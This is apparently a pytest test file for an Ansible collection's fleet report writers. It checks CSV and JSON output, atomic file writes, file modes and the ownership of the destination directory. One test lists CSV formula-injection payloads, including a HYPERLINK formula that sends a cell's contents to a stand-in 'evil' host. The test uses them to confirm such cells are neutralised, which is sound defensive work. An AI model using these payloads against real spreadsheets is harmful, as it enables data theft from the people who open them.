# -*- coding: utf-8 -*-
# Copyright (c) hostops.fleet contributors
# GNU General Public License v3.0+ (see https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""The fleet report's JSON and CSV writers, the atomic write, the file modes and the checks of dest."""

from __future__ import annotations

import copy
import csv
import io
import json
import os
import random
import stat

import pytest

from ansible_collections.hostops.fleet.plugins.plugin_utils import _fleet_files as files
from ansible_collections.hostops.fleet.plugins.plugin_utils._fleet_html import row_maker
from ansible_collections.hostops.fleet.plugins.plugin_utils._fleet_model import FleetReportError, summarize_host
from ansible_collections.hostops.fleet.plugins.plugin_utils._fleet_render import build_report


def fleet(facts, count):
    records = [summarize_host('host-%04d' % index, copy.deepcopy(facts)) for index in range(count)]
    records.append(summarize_host('down', None, {'state': 'unreachable', 'msg': 'timed out'}))
    return records


def csv_rows(report):
    return list(csv.DictReader(io.StringIO(''.join(files.csv_chunks(report)), newline='')))


def test_json_is_the_head_the_summary_and_every_record_with_its_rank(facts):
    records = fleet(facts, 3)
    report = build_report(copy.deepcopy(records), generated_at='2026-11-29T10:00:00+0000')
    written = json.loads(''.join(files.json_chunks(report)))
    assert written['generated_at'] == '2026-11-29T10:00:00+0000' and written['summary'] == report.summary
    assert [h['rank'] for h in written['hosts']] == [1, 2, 3, 4]
    assert written['hosts'][0]['name'] == 'down'
    by_name = dict((r['name'], r) for r in records)
    for host in written['hosts']:
        assert dict(host, rank=None) == json.loads(json.dumps(dict(by_name[host['name']], rank=None)))


def test_csv_has_a_header_and_a_row_per_host_across_batches(facts, monkeypatch):
    monkeypatch.setattr(files, 'CSV_BATCH', 2)
    report = build_report(fleet(facts, 4))
    rows = csv_rows(report)
    assert [r['host'] for r in rows] == [h['name'] for h in report.records()]
    assert [r['rank'] for r in rows] == ['1', '2', '3', '4', '5']
    assert rows[0]['state'] == 'unreachable' and rows[0]['severity'] == 'critical'
    assert float(rows[1]['memory_available_pct']) == facts['memory']['available_pct']
    assert ''.join(files.csv_chunks(build_report([]))) == ','.join(files.CSV_COLUMNS) + '\r\n'


def test_missing_values_are_empty_cells(facts):
    for subset in ('io', 'namespaces', 'containers'):
        del facts[subset]
    row = csv_rows(build_report([summarize_host('partial', facts)]))[0]
    assert row['busiest_disk'] == '' and row['non_default_namespaces'] == '' and row['containers'] == ''


@pytest.mark.parametrize('text', ['=HYPERLINK("http://evil/?"&A1)', '+1+2', '-2+3', '@SUM(A1:A9)', '\tcmd', '\rcmd'])
def test_a_cell_a_spreadsheet_would_run_as_a_formula_starts_with_an_apostrophe(facts, text):
    facts['processes']['top_cpu'][0]['command'] = text
    facts['alerts'] = [{'severity': 'warning', 'subset': 'memory', 'message': text}]
    row = csv_rows(build_report([summarize_host(text, facts)], columns=[text]))
    assert row[0]['host'] == "'" + text
    assert row[0]['top_cpu_command'] == "'" + text
    assert row[0]['alerts'].startswith("'" + text)
    assert "'" + text in row[0]  # the user's column label in the header too


def test_a_line_break_in_host_text_never_starts_a_row(facts):
    facts['processes']['top_cpu'][0]['command'] = 'a\rforged,row\nanother'
    report = build_report([summarize_host('h', facts), summarize_host('g', None)])
    text = ''.join(files.csv_chunks(report))
    assert text.count('\r\n') == 3 and len(csv_rows(report)) == 2


def test_numbers_and_harmless_text_are_left_alone(facts):
    facts['processes']['top_cpu'][0]['command'] = 'nginx -g daemon'
    row = csv_rows(build_report([summarize_host('web-1', facts)]))[0]
    assert row['host'] == 'web-1' and row['top_cpu_command'] == 'nginx -g daemon'
    assert files.csv_safe(-1.5) == -1.5 and files.csv_safe(None) == ''


def test_write_atomically_replaces_and_leaves_no_temporary_file(tmp_path):
    target = tmp_path / 'fleet-report.html'
    target.write_text('old')
    files.write_atomically(str(target), iter(['n', 'ew']))
    assert target.read_text() == 'new'
    assert sorted(p.name for p in tmp_path.iterdir()) == ['fleet-report.html']
    assert stat.S_IMODE(target.stat().st_mode) == 0o600


def test_a_failing_writer_keeps_the_old_file_and_leaves_no_temporary_file(tmp_path):
    target = tmp_path / 'fleet-report.csv'
    target.write_text('old')

    def pieces():
        yield 'half a report'
        raise RuntimeError('renderer broke')

    with pytest.raises(RuntimeError):
        files.write_atomically(str(target), pieces())
    assert target.read_text() == 'old'
    assert sorted(p.name for p in tmp_path.iterdir()) == ['fleet-report.csv']


def test_a_lone_surrogate_from_a_host_is_written_not_fatal(facts, tmp_path):
    facts['processes']['top_cpu'][0]['command'] = 'bad\ud800name'
    report = build_report([summarize_host('h', facts)])
    target = tmp_path / 'fleet-report.csv'
    files.write_atomically(str(target), files.csv_chunks(report))
    assert 'bad?name' in target.read_text(encoding='utf-8')
    files.write_atomically(str(tmp_path / 'fleet-report.json'), files.json_chunks(report))
    assert json.loads((tmp_path / 'fleet-report.json').read_text())['hosts'][0]['top_cpu'][0]['command'] == \
        'bad\ud800name'


@pytest.mark.parametrize('value, mode', [('0600', 0o600), ('0644', 0o644), ('640', 0o640), (0o600, 0o600),
                                         (420, 0o644)])
def test_the_mode_option_takes_octal_text_or_a_number(value, mode):
    assert files.file_mode(value) == mode


@pytest.mark.parametrize('value', ['0400', '0200', '4755', 'rw-r--r--', '', None, True, 0o1600, '99'])
def test_a_mode_that_leaves_the_owner_without_the_files_or_sets_special_bits_is_refused(value):
    with pytest.raises(FleetReportError, match='mode must be a file mode'):
        files.file_mode(value)


@pytest.mark.parametrize('mode, directory', [(0o600, 0o700), (0o640, 0o750), (0o644, 0o755), (0o660, 0o770)])
def test_the_directory_is_searchable_by_whoever_may_read_the_files(mode, directory):
    assert files.directory_mode(mode) == directory


def test_a_missing_dest_is_created_private_with_its_parents(tmp_path):
    dest = tmp_path / 'a' / 'b' / 'fleet-report'
    assert files.prepare_directory(str(dest)) is True
    assert stat.S_IMODE(dest.stat().st_mode) == 0o700
    assert files.prepare_directory(str(dest)) is False
    wide = tmp_path / 'wide'
    files.prepare_directory(str(wide), 0o644)
    assert stat.S_IMODE(wide.stat().st_mode) == 0o755


def test_an_existing_directory_of_the_user_keeps_its_mode(tmp_path):
    os.chmod(str(tmp_path), 0o755)
    assert files.prepare_directory(str(tmp_path)) is False
    assert stat.S_IMODE(tmp_path.stat().st_mode) == 0o755


def test_check_mode_creates_nothing(tmp_path):
    assert files.prepare_directory(str(tmp_path / 'later'), create=False) is False
    assert not (tmp_path / 'later').exists()


def test_a_symbolic_link_to_a_directory_of_the_user_is_followed(tmp_path):
    (tmp_path / 'real').mkdir()
    os.symlink(str(tmp_path / 'real'), str(tmp_path / 'link'))
    assert files.prepare_directory(str(tmp_path / 'link')) is False


def test_dest_that_is_a_file_is_refused(tmp_path):
    (tmp_path / 'file').write_text('x')
    with pytest.raises(FleetReportError, match='exists and is not a directory'):
        files.prepare_directory(str(tmp_path / 'file'))


def test_dest_owned_by_another_user_is_refused(tmp_path, monkeypatch):
    # The owner check compares with the effective uid: pretend to be someone else than the owner.
    monkeypatch.setattr(files.os, 'geteuid', lambda: os.stat(str(tmp_path)).st_uid + 4242)
    with pytest.raises(FleetReportError, match=r'is owned by .*, not by uid \d+ who writes the report'):
        files.prepare_directory(str(tmp_path))


def test_a_symbolic_link_into_a_directory_of_another_user_is_refused(tmp_path, monkeypatch):
    (tmp_path / 'theirs').mkdir()
    os.symlink(str(tmp_path / 'theirs'), str(tmp_path / 'link'))
    real_stat = os.stat

    def stat_as_if_theirs(path, *args, **kwargs):
        found = real_stat(path, *args, **kwargs)
        if path == str(tmp_path / 'link') and kwargs.get('follow_symlinks', True):
            return os.stat_result((found.st_mode, found.st_ino, found.st_dev, found.st_nlink, found.st_uid + 4242)
                                  + tuple(found)[5:])
        return found

    monkeypatch.setattr(files.os, 'stat', stat_as_if_theirs)
    with pytest.raises(FleetReportError, match='through the symbolic link to .*theirs.*is owned by'):
        files.prepare_directory(str(tmp_path / 'link'))


@pytest.mark.parametrize('name', ['plain', 'a,b', 'say "hi"', 'line\nbreak', 'cr\ronly', '=1+2', '', ' space '])
def test_a_row_is_what_the_csv_module_writes_of_the_whole_row_with_the_rank(facts, name):
    facts['processes']['top_cpu'][0]['command'] = name + ',"x"\r\n'
    report = build_report([summarize_host(name, facts)], columns=['c'])
    whole = io.StringIO()
    cells = files.csv_cells(next(report.records()))
    cells.insert(files.RANK_COLUMN, 1)
    csv.writer(whole, lineterminator='\r\n').writerow(cells)
    assert ''.join(files.csv_chunks(report)).split('\r\n', 1)[1] == whole.getvalue()


# ---------------------------------------------------------------- integers stay integers

# Values the report computes rather than copies from the host: ratios, differences, scores and ages.
DERIVED = frozenset(('load_per_cpu', 'cpu_busy_pct', 'score', 'age_seconds'))
# The CSV's numeric columns that copy a host's value or count something (the rest are text or DERIVED).
INTEGER_CSV_COLUMNS = (
    'rank', 'critical', 'warning', 'info', 'uptime_seconds', 'memory_total', 'memory_available_pct', 'swap_used',
    'fullest_use_pct', 'cpu_count', 'load1', 'iowait_pct', 'busiest_disk_util_pct', 'top_cpu_pid', 'top_cpu_pct',
    'top_memory_pid', 'top_memory_rss_kb', 'top_io_pid', 'top_io_bytes_s', 'non_default_namespaces', 'containers',
)


def with_integers(value, rng):
    """The facts with every number replaced by a random integer: small, large, or near the report's bound."""
    if isinstance(value, dict):
        return dict((key, with_integers(item, rng)) for key, item in value.items())
    if isinstance(value, list):
        return [with_integers(item, rng) for item in value]
    if isinstance(value, (int, float)) and not isinstance(value, bool):
        return rng.choice((rng.randint(0, 100), rng.randint(0, 2 ** 40), rng.randint(2 ** 53, 2 ** 62)))
    return value


def floats_in(value, path=()):
    """(path, value) of every float in a JSON document, outside the keys the report derives."""
    if isinstance(value, dict):
        for key, item in value.items():
            if key not in DERIVED:
                yield from floats_in(item, path + (key,))
    elif isinstance(value, list):
        for index, item in enumerate(value):
            yield from floats_in(item, path + (index,))
    elif isinstance(value, float):
        yield path, value


# Hypothesis is not installed in the shared venv: seeded random facts, the same on every run.
@pytest.mark.parametrize('seed', range(25))
def test_every_integer_a_host_sent_is_an_integer_in_the_json_and_the_csv(facts, seed):
    rng = random.Random(seed)
    generated = with_integers(facts, rng)
    record = summarize_host('generated', generated, columns=[lambda f: f['processes']['cpu_count']])
    assert record['state'] == 'ok', record['alerts']
    report = build_report([record, summarize_host('down', None, {'state': 'unreachable'})])
    written = json.loads(''.join(files.json_chunks(report)))
    host = [h for h in written['hosts'] if h['name'] == 'generated'][0]
    assert list(floats_in(host)) == []
    assert host['cpu_count'] == generated['processes']['cpu_count'] and isinstance(host['cpu_count'], int)
    assert host['memory']['total'] == generated['memory']['total']
    assert host['columns'] == [generated['processes']['cpu_count']]
    assert list(floats_in(written['summary'], ('summary',))) == []
    row = [r for r in csv_rows(report) if r['host'] == 'generated'][0]
    for column in INTEGER_CSV_COLUMNS + ('cpu_count',):
        assert row[column] == '' or int(row[column]) is not None, (column, row[column])
    assert int(row['cpu_count']) == generated['processes']['cpu_count']
    assert int(row['top_memory_rss_kb']) == host['top_memory'][0]['rss_kb']
    # The page's table data: the sort keys of copied values, and a user column's cell, key and text.
    cells = json.loads(row_maker(('uptime', 'memory_available_pct'))(record))[3]
    assert cells[0][0] == record['uptime_seconds'] and isinstance(cells[0][0], int)
    assert isinstance(cells[1][0], int)
    assert cells[2] == [generated['processes']['cpu_count'], str(generated['processes']['cpu_count'])]


def test_a_float_a_host_sent_stays_a_float(facts):
    facts['memory']['available_pct'] = 42.0
    facts['processes']['cpu_count'] = 4
    host = json.loads(''.join(files.json_chunks(build_report([summarize_host('h', facts)]))))['hosts'][0]
    assert repr(host['memory']['available_pct']) == '42.0' and repr(host['cpu_count']) == '4'
